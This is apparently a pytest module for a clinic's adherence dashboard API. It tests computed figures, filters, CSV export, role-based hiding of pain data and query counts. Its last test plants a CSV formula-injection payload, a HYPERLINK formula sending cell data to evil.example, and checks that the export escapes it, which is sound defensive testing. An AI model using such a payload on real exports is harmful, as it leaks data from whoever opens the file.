"""The adherence dashboard API and a member's adherence: figures worked by hand, roll-ups by PT
and template, filters and their errors, ordering, the CSV of every row, who sees what (no pain
figures for coordinators), and a number of queries that does not grow with the members."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from members.models import Alert, AlertKind, Member, SessionLog
from members.services import adherence as service
from members.services.reminders import create_reminder
from tests import factories
from tests.conftest import World, bearer_client
from tests.programs.factories_plans import PlanExerciseFactory, PlanTemplateFactory, item, make_plan


def today() -> date:
    """Today when the test runs (a run may cross midnight after this module is imported)."""
    return timezone.now().date()


URL = "/api/v1/dashboard/adherence/"


def day(n: int) -> date:
    return today() - timedelta(days=n)


def at_noon(n: int) -> datetime:
    return datetime.combine(day(n), time(12, 0), tzinfo=UTC)


def plan(world_pt, member: Member, *, start: int, template=None) -> None:
    make_plan(
        pt=world_pt,
        member=member,
        items=[item(PlanExerciseFactory.create())],
        start=day(start),
        at=at_noon(start),
        template_id=template.pk if template else None,
    )


def sessions(member: Member, days: list[int], **values) -> None:
    SessionLog.objects.bulk_create(
        [SessionLog(member=member, local_date=day(n), status="completed", **values) for n in days]
    )


def refresh(*members: Member) -> None:
    service.refresh_adherence(member_ids=[m.pk for m in members], since=day(60))


@pytest.fixture
def clinic(world: World):
    """Two members at North Clinic, both on daily plans from 10 days ago (UTC, so the numbers
    are the same whenever the test runs): `member` (PT `pt`, from a template) did 8 of the 10
    days before today with pain going from 6 to 3; `other_member` (PT `pt_other`) never
    started. A third, `foreign_member`, is in another clinic."""
    for m in (world.member, world.other_member, world.foreign_member):
        m.timezone = "UTC"
        m.save(update_fields=["timezone"])
    template = PlanTemplateFactory.create()
    plan(world.pt, world.member, start=10, template=template)
    plan(world.pt_other, world.other_member, start=10)
    plan(world.foreign_pt, world.foreign_member, start=10)
    sessions(world.member, [10, 9, 8, 7], pain_before=6)
    sessions(world.member, [4, 3, 2, 1], pain_before=3)
    sessions(world.foreign_member, [3, 2, 1])
    Alert.objects.create(
        member=world.other_member, therapist=world.pt_other, kind=AlertKind.INACTIVE
    )
    create_reminder(member=world.member, local_time=time(8, 0))
    refresh(world.member, world.other_member, world.foreign_member)
    return template


def read_csv(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_the_coordinator_sees_the_organization_worked_by_hand(world: World, clinic) -> None:
    body = bearer_client(world.coordinator).get(URL).json()
    assert body["source"] == "self-reported"
    assert body["window"]["rolling"] is True and body["window"]["days"] == 30
    assert body["count"] == 2  # not the other clinic's member
    summary = body["summary"]
    # Due: 10 days each (today is not over); done: 8 and 0.
    assert (summary["prescribed_sessions"], summary["completed_sessions"]) == (20, 8)
    assert summary["adherence"] == 40.0
    assert summary["mean_member_adherence"] == 40.0  # (80 + 0) / 2
    assert summary["adherent_members"] == 1
    assert summary["at_risk"] == 1
    assert summary["by_risk"]["never_started"] == 1 and summary["by_risk"]["on_track"] == 1
    assert summary["open_alerts"] == 1
    first, second = body["results"]
    # At risk first.
    assert first["member_id"] == world.other_member.pk and first["risk"] == "never_started"
    assert second["member_id"] == world.member.pk
    assert second["adherence"] == 80.0
    assert (second["active_days_30"], second["current_streak"], second["best_streak"]) == (8, 4, 4)
    assert second["last_active"] == day(1).isoformat()
    assert second["reminders"] == "on" and first["reminders"] == "none"
    assert second["therapist"]["id"] == world.pt.pk
    assert second["template"]["id"] == clinic.pk
    # No pain details for coordinators.
    assert "pain_trend" not in first and "pain_trend" not in second
    by_pt = {g["id"]: g for g in body["by_therapist"]}
    assert by_pt[world.pt.pk]["adherence"] == 80.0 and by_pt[world.pt_other.pk]["at_risk"] == 1
    by_template = {g["id"]: g for g in body["by_template"]}
    assert by_template[clinic.pk]["members"] == 1 and by_template[None]["members"] == 1
    bands = {b["band"]: b["members"] for b in body["distribution"]}
    assert bands["80-100%"] == 1 and bands["0-19%"] == 1
    weeks = body["weeks"]
    assert sum(w["prescribed_sessions"] for w in weeks) == 20
    assert sum(w["completed_sessions"] for w in weeks) == 8
    assert weeks[-1]["in_progress"] is True


@pytest.mark.django_db
def test_a_pt_sees_the_caseload_with_pain_trends(world: World, clinic) -> None:
    body = bearer_client(world.pt.user).get(URL).json()
    assert [row["member_id"] for row in body["results"]] == [world.member.pk]
    trend = body["results"][0]["pain_trend"]
    # The rolling window's first week (T-29..T-23) has no pain; the last: 3, 3, 3, 3.
    assert trend == {"first_week": None, "last_week": 3.0, "trend": None}


@pytest.mark.django_db
def test_a_window_from_to_is_summed_from_the_days(world: World, clinic) -> None:
    body = (
        bearer_client(world.pt.user)
        .get(URL, {"from": day(10).isoformat(), "to": day(1).isoformat()})
        .json()
    )
    assert body["window"] == {
        "from": day(10).isoformat(),
        "to": day(1).isoformat(),
        "rolling": False,
        "days": 10,
    }
    (row,) = body["results"]
    assert (row["prescribed_sessions"], row["completed_sessions"], row["adherence"]) == (
        10,
        8,
        80.0,
    )
    # First week T-10..T-4: 6, 6, 6, 6, 3; last week T-7..T-1: 6, 3, 3, 3, 3.
    assert row["pain_trend"] == {"first_week": 5.4, "last_week": 3.6, "trend": "steady"}
    body = (
        bearer_client(world.pt.user)
        .get(URL, {"from": day(10).isoformat(), "to": day(7).isoformat()})
        .json()
    )
    (row,) = body["results"]
    assert row["adherence"] == 100.0  # four days, all done
    assert row["pain_trend"] == {"first_week": 6.0, "last_week": 6.0, "trend": "steady"}


@pytest.mark.django_db
def test_filters(world: World, clinic) -> None:
    client = bearer_client(world.coordinator)
    ids = lambda params: [r["member_id"] for r in client.get(URL, params).json()["results"]]  # noqa: E731
    assert ids({"therapist": world.pt_other.pk}) == [world.other_member.pk]
    assert ids({"template": clinic.pk}) == [world.member.pk]
    assert ids({"risk": "never_started"}) == [world.other_member.pk]
    assert ids({"risk": "fading"}) == []
    assert ids({"ordering": "-adherence"}) == [world.member.pk, world.other_member.pk]
    assert ids({"ordering": "name"}) == sorted(
        [world.member.pk, world.other_member.pk],
        key=lambda pk: Member.objects.get(pk=pk).user.display_name.lower(),
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "yesterday"}, "from"),
        ({"from": "2026-02-10", "to": "2026-02-01"}, "from"),
        ({"from": "2024-01-01", "to": "2026-01-01"}, "from"),
        ({"to": (date.today() + timedelta(days=5)).isoformat()}, "to"),
        ({"therapist": "abc"}, "therapist"),
        ({"risk": "doomed"}, "risk"),
        ({"ordering": "shoe_size"}, "ordering"),
        ({"template": "999999"}, "template"),
        ({"therapist": ""}, "therapist"),
    ],
)
def test_bad_filters_are_a_400_naming_the_parameter(world: World, params, field) -> None:
    response = bearer_client(world.coordinator).get(URL, params)
    assert response.status_code == 400
    assert field in response.json()["errors"]


@pytest.mark.django_db
def test_another_clinics_pt_is_not_a_filter(world: World, clinic) -> None:
    response = bearer_client(world.coordinator).get(URL, {"therapist": world.foreign_pt.pk})
    assert response.status_code == 400 and "therapist" in response.json()["errors"]


@pytest.mark.django_db
def test_csv_has_every_row_and_no_pain_for_coordinators(world: World, clinic) -> None:
    for _ in range(23):  # more than a page
        member = factories.MemberFactory.create(user__organization=world.org, timezone="UTC")
        factories.CareAssignmentFactory.create(member=member, therapist=world.pt)
    response = bearer_client(world.coordinator).get(URL, {"format": "csv", "page_size": "5"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    assert len(rows) == 25
    assert {row["source"] for row in rows} == {"self-reported"}
    assert "pain_trend" not in rows[0]
    mine = next(r for r in rows if r["member_id"] == str(world.member.pk))
    assert (mine["adherence_percent"], mine["completed_sessions"], mine["risk"]) == (
        "80.0",
        "8",
        "on_track",
    )
    pt_rows = read_csv(bearer_client(world.pt.user).get(URL, {"format": "csv"}))
    assert "pain_trend" in pt_rows[0]


@pytest.mark.django_db
def test_members_have_no_dashboard(world: World, clinic) -> None:
    for user in (world.member.user, world.foreign_member.user):
        response = bearer_client(user).get(URL)
        assert response.status_code == 404
        assert set(response.json()) == {"detail", "errors"}


@pytest.mark.django_db
def test_the_query_count_does_not_grow_with_the_members(world: World) -> None:
    exercise = PlanExerciseFactory.create()

    def add(n: int) -> None:
        added = []
        for _ in range(n):
            member = factories.MemberFactory.create(user__organization=world.org)
            factories.CareAssignmentFactory.create(member=member, therapist=world.pt)
            make_plan(pt=world.pt, member=member, items=[item(exercise)], start=day(12))
            sessions(member, [5, 4, 2])
            create_reminder(member=member, local_time=time(9, 0))
            added.append(member)
        refresh(*added)

    client = bearer_client(world.coordinator)
    client.get("/api/v1/me/")  # the sign-in cached (no user query after), as on every request
    counts = []
    for n in (2, 15):
        add(n)
        for params in ({}, {"from": day(20).isoformat(), "to": day(1).isoformat()}):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(URL, params).status_code == 200
            counts.append(len(queries))
    assert counts[:2] == counts[2:], counts
    # 15 on PostgreSQL: the dashboard's transaction turns the planner's JIT off first.
    assert max(counts) <= 15, counts


# --- one member ----------------------------------------------------------------------------------


def member_url(member: Member) -> str:
    return f"/api/v1/members/{member.pk}/adherence/"


@pytest.mark.django_db
def test_one_members_figures_for_their_pt_and_themselves(world: World, clinic) -> None:
    body = bearer_client(world.pt.user).get(member_url(world.member)).json()
    assert (body["prescribed_sessions"], body["completed_sessions"], body["adherence"]) == (
        10,
        8,
        80.0,
    )
    assert body["risk"] == "on_track" and body["source"] == "self-reported"
    assert body["first_active"] == day(10).isoformat()
    assert body["therapist"]["id"] == world.pt.pk
    assert "pain_trend" in body
    by_date = {d["date"]: d for d in body["days"]}
    assert by_date[day(5).isoformat()]["completed_sessions"] == 0
    assert by_date[day(5).isoformat()]["due_sessions"] == 1
    assert by_date[today().isoformat()]["due_sessions"] == 0  # today is not over
    own = bearer_client(world.member.user).get(member_url(world.member))
    assert own.status_code == 200 and own.json()["adherence"] == 80.0
    coordinator = bearer_client(world.coordinator).get(member_url(world.member)).json()
    assert "pain_trend" not in coordinator
    window = bearer_client(world.pt.user).get(
        member_url(world.member), {"from": day(4).isoformat(), "to": day(1).isoformat()}
    )
    assert window.json()["adherence"] == 100.0


@pytest.mark.django_db
def test_another_members_figures_are_404(world: World, clinic) -> None:
    for user, member in (
        (world.member.user, world.other_member),
        (world.pt.user, world.other_member),
        (world.coordinator, world.foreign_member),
    ):
        assert bearer_client(user).get(member_url(member)).status_code == 404
    bad = bearer_client(world.pt.user).get(member_url(world.member), {"from": "soon"})
    assert bad.status_code == 400 and "from" in bad.json()["errors"]


@pytest.mark.django_db
def test_csv_cells_that_look_like_formulas_are_text(world: World, clinic) -> None:
    user = world.member.user
    user.first_name, user.last_name = '=HYPERLINK("http://evil.example/?"&A1,"x")', "-1+2"
    user.save(update_fields=["first_name", "last_name"])
    clinic.name = "@SUM(1+1)"
    clinic.save(update_fields=["name"])
    response = bearer_client(world.coordinator).get(URL, {"format": "csv"})
    assert "no-store" in response["Cache-Control"]
    rows = read_csv(response)
    mine = next(r for r in rows if r["member_id"] == str(world.member.pk))
    assert mine["name"].startswith("'=HYPERLINK(")
    assert mine["template"] == "'@SUM(1+1)"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
